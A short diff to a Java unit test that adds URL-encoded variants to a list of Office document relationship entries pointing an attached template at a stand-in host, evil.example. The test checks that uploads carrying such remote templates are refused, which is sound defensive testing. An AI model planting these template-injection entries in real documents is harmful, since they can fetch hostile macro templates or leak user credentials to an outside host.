@@ -192,6 +192,8 @@ class UploadedFileTest {
         "<Relationship Type='x/attachedTemplate' Target='file:///\\\\evil.example\\a.dotm'/>",
         "<Relationship Type='x/attachedTemplate' Target='file://evil.example/a.dotm'/>",
         "<Relationship Type='x/attachedTemplate' Target='\\\\evil.example\\a.dotm'/>",
+        "<Relationship Type='x/attachedTemplate' Target='file:///%5C%5cevil.example/a.dotm'/>",
+        "<Relationship Type='x/attachedTemplate' Target='%2F%2fevil.example/a.dotm'/>",
         "<Relationship Type='x/attachedTemplate' Target='/\\evil.example/a.dotm'/>"
       })
   void a_template_elsewhere_is_refused_however_its_address_is_written(String relationship)
